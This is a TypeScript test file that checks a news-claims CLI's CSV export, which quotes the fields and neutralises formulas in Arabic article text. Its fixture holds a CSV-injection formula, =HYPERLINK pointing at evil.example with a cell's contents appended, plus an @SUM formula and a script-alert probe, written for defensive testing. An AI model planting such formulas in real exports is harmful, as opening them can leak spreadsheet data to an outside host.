// `--format csv` through the command line: claims and compare, --bom, hostile article text.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CLAIM_COLUMNS, COMPARE_COLUMNS } from '../../src/render/csv.js';
import { FIXTURES, runCli, tempDir } from '../cli/helpers.js';

/** RFC 4180 records (CRLF-terminated; quoted fields may hold CR/LF). */
function records(text: string): string[][] {
  const rows: string[][] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n"]*)(,|\r\n)/g;
  let row: string[] = [];
  let m: RegExpExecArray | null;
  let at = 0;
  while ((m = re.exec(text)) && m.index === at) {
    at = re.lastIndex;
    const cell = m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!;
    row.push(cell);
    if (m[2] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  expect(at).toBe(text.length);
  return rows;
}

const dir = tempDir('arqam-csv-');
const hostile = join(dir, 'hostile.txt');
writeFileSync(
  hostile,
  [
    'الحسكة - 23 كانون الثاني 2022',
    '=HYPERLINK("http://evil.example/?x="&A1,"اضغط هنا") قتل 12 شخصا في هجوم على السجن، بحسب المرصد السوري.',
    '@SUM(1+1) وأصيب 30 آخرون <script>alert(1)</script> في الهجوم نفسه، وفق مصادر طبية.',
  ].join('\n'),
);

describe('arqam claims --format csv', () => {
  it('writes the documented header and one row per figure, with a BOM when asked', async () => {
    const json = await runCli(['claims', FIXTURES, '--format', 'json']);
    const figures = (JSON.parse(json.stdout) as { documents: { figures: unknown[] }[] }).documents.flatMap((d) => d.figures);
    const csv = await runCli(['claims', FIXTURES, '--format', 'csv', '--bom']);
    expect(csv.code).toBe(0);
    expect(csv.stdout.startsWith('\uFEFFdocument,measure,value,')).toBe(true);
    const rows = records(csv.stdout.slice(1));
    expect(rows[0]).toEqual([...CLAIM_COLUMNS]);
    expect(rows).toHaveLength(figures.length + 1);
    expect(rows.slice(1).every((r) => r.length === CLAIM_COLUMNS.length)).toBe(true);
  });

  it('neutralises formulas that come from the article text', async () => {
    const csv = await runCli(['claims', hostile, '--format', 'csv']);
    expect(csv.code).toBe(0);
    const rows = records(csv.stdout);
    expect(rows.length).toBeGreaterThan(1);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const quotes = rows.slice(1).map((r) => r[CLAIM_COLUMNS.indexOf('quote')]!);
    expect(quotes.some((q) => q.startsWith(`'=HYPERLINK("http://evil.example/`))).toBe(true);
  });
});

describe('arqam compare --format csv', () => {
  it('writes one row per claim of every group', async () => {
    const json = await runCli(['compare', FIXTURES, '--format', 'json']);
    const groups = (JSON.parse(json.stdout) as { groups: { id: string; claims: unknown[] }[] }).groups;
    const csv = await runCli(['compare', FIXTURES, '--format', 'csv']);
    expect(csv.code).toBe(0);
    const rows = records(csv.stdout);
    expect(rows[0]).toEqual([...COMPARE_COLUMNS]);
    expect(rows).toHaveLength(1 + groups.reduce((n, g) => n + g.claims.length, 0));
    expect(rows[1]![0]).toBe('1');
  });

  it('is refused for commands without a CSV shape', async () => {
    const r = await runCli(['segment', FIXTURES, '--format', 'csv']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--format csv is not available for segment');
  });
});
